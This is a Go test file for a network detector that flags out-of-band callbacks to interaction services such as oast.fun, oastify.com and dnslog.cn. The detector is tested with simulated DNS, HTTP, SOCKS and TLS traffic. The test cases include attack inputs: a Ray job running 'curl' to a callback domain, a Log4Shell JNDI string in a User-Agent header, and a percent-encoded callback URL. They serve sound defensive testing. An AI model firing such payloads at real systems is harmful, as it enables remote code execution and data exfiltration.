package oast

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/dns"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/decoders/socks"
	"github.com/raytap/raytap/decoders/tls"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/data"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
)

const (
	node     = "10.20.0.10"
	resolver = "10.20.0.53"
	attacker = "203.0.113.66"
	web      = "198.51.100.77"
	random   = "9o95wmckkpx4nzqr1f5s"
)

type net struct {
	bus  *detectors.Bus
	said []*detectors.Finding
	now  capture.Time
	n    uint64
}

func newNet(cfg Config) *net {
	home := detectortest.Home()
	w := &net{now: 1_700_000_000e9}
	once := detectors.NewSuppressor(func(f *detectors.Finding) { w.said = append(w.said, f) })
	w.bus = detectors.NewBus(once.Report)
	Spec().New(&detectors.Env{Home: home, Settings: map[string]any{"oast": &cfg}}, w.bus)
	return w
}

func (w *net) at() capture.At {
	w.n++
	w.now = w.now.Add(time.Second)
	return capture.At{Time: w.now, Packet: w.n}
}

func (w *net) dns(src, name, answer string, rcode uint16) {
	t := &dns.Transaction{At: w.at(), Reply: w.at(), Flow: detectortest.Flow(src, resolver, 53), Query: name, Type: 1, Class: 1, Asked: true, Answered: true, RCode: rcode}
	if answer != "" {
		t.Answers = []dns.Answer{{Name: name, Type: 1, Addr: netip.MustParseAddr(answer)}}
	}
	w.bus.Publish(t)
}

func (w *net) get(src, dst, target string, h http.Header) {
	at := w.at()
	w.bus.Publish(&http.Transaction{At: at, Flow: detectortest.Flow(src, dst, 80), Request: &http.Request{At: at, Method: "GET", Target: target, Header: h},
		Response: &http.Response{At: w.at(), Status: 200}})
}

func (w *net) job(src, dst, entrypoint string) {
	w.bus.Publish(&ray.Call{At: w.at(), Flow: detectortest.Flow(src, dst, 8265), Job: true, Entrypoint: entrypoint, Outcome: ray.Executed})
}

func host(name string) http.Header { return http.Header{{Name: "Host", Value: name}} }

func TestCallbacks(t *testing.T) {
	tests := []struct {
		name     string
		do       func(w *net)
		severity string // "" for silence
		words    string
	}{
		{"look-up of a random label", func(w *net) { w.dns(node, random+".oast.fun", web, 0) }, "high", "looked up " + random + ".oast.fun"},
		{"data in front of the label", func(w *net) { w.dns(node, "root.host1."+random+".oast.site", web, 0) }, "high", "looked up root.host1."},
		{"refused by the resolver, the question got out all the same", func(w *net) { w.dns(node, random+".oast.fun", "", 5) }, "high", "without an answer"},
		{"blocked", func(w *net) { w.dns(node, random+".oast.fun", "", 3) }, "medium", "blocked"},
		{"sinkholed", func(w *net) { w.dns(node, random+".oast.fun", "0.0.0.0", 0) }, "medium", "blocked"},
		{"a service with short labels", func(w *net) { w.dns(node, "ab12cd.dnslog.cn", web, 0) }, "high", "dnslog.cn"},
		{"a word below a service of long labels", func(w *net) { w.dns(node, "hello.oastify.com", web, 0) }, "medium", "hello"},
		{"a bin that developers use", func(w *net) {
			w.dns(node, "0ba17f3c-1111-4222-8333-123456789abc.webhook.site", web, 0)
		}, "medium", "records requests"},
		{"a call with this Host", func(w *net) { w.get(node, web, "/", host(random+".oast.fun:80")) }, "high", "called"},
		{"a call by a proxy's target", func(w *net) { w.get(node, "10.20.0.30", "http://"+random+".oast.me/x", nil) }, "high", "called"},
		{"a call through SOCKS", func(w *net) {
			w.bus.Publish(&socks.Request{At: w.at(), Flow: detectortest.Flow(node, "10.20.0.30", 1080), Host: socks.Address{Name: random + ".oast.pro"}, OK: true})
		}, "high", "called"},
		{"a call over TLS", func(w *net) {
			w.bus.Publish(&tls.Session{At: w.at(), Flow: detectortest.Flow(node, web, 443), ServerName: random + ".oast.live", Answered: true})
		}, "high", "called"},
		{"an alias for such a name", func(w *net) {
			w.bus.Publish(&dns.Transaction{At: w.at(), Flow: detectortest.Flow(node, resolver, 53), Query: "x.evil.example", Type: 1, Asked: true, Answered: true,
				Answers: []dns.Answer{{Name: "x.evil.example", Type: 5, Data: random + ".oast.fun"}, {Name: random + ".oast.fun", Type: 1, Addr: netip.MustParseAddr(web)}}})
		}, "high", random},
		{"a job told it to", func(w *net) {
			w.job(attacker, node, "curl http://"+random+".oast.fun/x")
			w.dns(node, random+".oast.fun", web, 0)
		}, "high", "as a job from 203.0.113.66 to 10.20.0.10 told it"},
		{"a header told it to, though the label is a word", func(w *net) {
			w.get(attacker, node, "/", http.Header{{Name: "User-Agent", Value: "${jndi:ldap://hello.oastify.com/a}"}})
			w.dns(node, "hello.oastify.com", web, 0)
		}, "high", "as a request's User-Agent from 203.0.113.66"},
		{"a target told it to, percent-encoded", func(w *net) {
			w.get(attacker, node, "/log_proxy?url=http:%2f%2fword.oastify.com%2f", host("h"))
			w.dns(node, "word.oastify.com", web, 0)
		}, "high", "as a request's target"},
		{"a machine that answers DNS itself", func(w *net) {
			w.bus.Publish(&dns.Transaction{At: w.at(), Flow: detectortest.Flow("10.20.0.7", resolver, 53), Query: "example.com", Asked: true, Answered: true})
			w.dns(resolver, random+".oast.fun", web, 0)
		}, "low", "may ask for others"},

		{"the service's own pages", func(w *net) {
			for _, n := range []string{"oastify.com", "polling.oastify.com", "www.oast.fun", "app.interactsh.com", "webhook.site", "canarytokens.org"} {
				w.dns(node, n, web, 0)
				w.get(node, web, "/", host(n))
			}
		}, "", ""},
		{"a name that only ends alike", func(w *net) { w.dns(node, random+".notoast.fun", web, 0) }, "", ""},
		{"a name that only has it inside", func(w *net) { w.dns(node, random+".oast.fun.example.com", web, 0) }, "", ""},
		{"the AAAA beside the A", func(w *net) {
			w.bus.Publish(&dns.Transaction{At: w.at(), Flow: detectortest.Flow(node, resolver, 53), Query: random + ".oast.fun", Type: 28, Asked: true, Answered: true, RCode: 5})
		}, "", ""},
		{"from outside", func(w *net) { w.get(attacker, node, "/", host(random+".oast.fun")) }, "", ""},
		{"a job that is only submitted", func(w *net) { w.job(attacker, node, "curl "+random+".oast.fun") }, "", ""},
		{"a page that refers to one", func(w *net) {
			w.get(node, web, "/", http.Header{{Name: "Host", Value: "example.com"}, {Name: "Referer", Value: "http://" + random + ".oast.fun/"}})
		}, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newNet(Default())
			tt.do(w)
			if tt.severity == "" {
				if len(w.said) > 0 {
					t.Errorf("said %q", w.said[0].Msg)
				}
				return
			}
			if len(w.said) != 1 {
				t.Fatalf("said %d times", len(w.said))
			}
			if f := w.said[0]; f.Severity.String() != tt.severity || !strings.Contains(f.Msg, tt.words) || len(f.Evidence) == 0 {
				t.Errorf("%s %q", f.Severity, f.Msg)
			}
		})
	}
}

func TestSettings(t *testing.T) {
	w := newNet(Config{Allow: []string{"10.20.0.99"}, Domains: []string{"*.oob.example"}})
	w.dns("10.20.0.99", random+".oast.fun", web, 0)
	if len(w.said) > 0 {
		t.Errorf("a tester was accused: %q", w.said[0].Msg)
	}
	w.dns(node, "abc123def456.oob.example", web, 0)
	if len(w.said) != 1 || w.said[0].Severity != detectors.High {
		t.Errorf("a domain of one's own: %v", w.said)
	}
}

// A word is found as soon as the planted one is not older than a day.
func TestPlantedIsForgotten(t *testing.T) {
	w := newNet(Default())
	w.job(attacker, node, "curl "+random+".oast.fun")
	w.now = w.now.Add(2 * plantedFor)
	w.dns(node, random+".oast.fun", web, 0)
	if len(w.said) != 1 || strings.Contains(w.said[0].Msg, "told it") {
		t.Errorf("%v", w.said)
	}
}

func TestListIsSound(t *testing.T) {
	m := load()
	all := data.LoadCallbacks()
	for _, c := range all {
		s, ok := m[c.Domain]
		if !ok || c.Domain != strings.ToLower(c.Domain) || !strings.Contains(c.Domain, ".") || s.length < 3 || s.grade != gradeOAST && s.grade != gradeBin && s.grade != gradeCanary {
			t.Errorf("%+v", c)
		}
	}
	if len(all) != len(m) || len(all) < 30 {
		t.Errorf("%d lines, %d domains", len(all), len(m))
	}
	for _, n := range []string{"github.com", "amazonaws.com", "google.com", "burp.example", "nessus.org", "huntress.com", "pipedream.net", "eu.org"} {
		if _, _, ok := m.find(n); ok {
			t.Errorf("%s is listed", n)
		}
	}
}

func FuzzNames(f *testing.F) {
	f.Add("curl http://" + random + ".oast.fun/x")
	f.Add("${jndi:ldap://a.b.oastify.com}")
	f.Add("....oast.fun..")
	m := load()
	f.Fuzz(func(t *testing.T, text string) {
		m.names(text, func(name string, s service, label string) bool {
			if !strings.Contains(text, name) || !strings.HasSuffix(strings.ToLower(name), s.domain) || strings.Contains(label, ".") {
				t.Errorf("%q: %q of %q, %q", text, name, s.domain, label)
			}
			return true
		})
		m.find(text)
	})
}
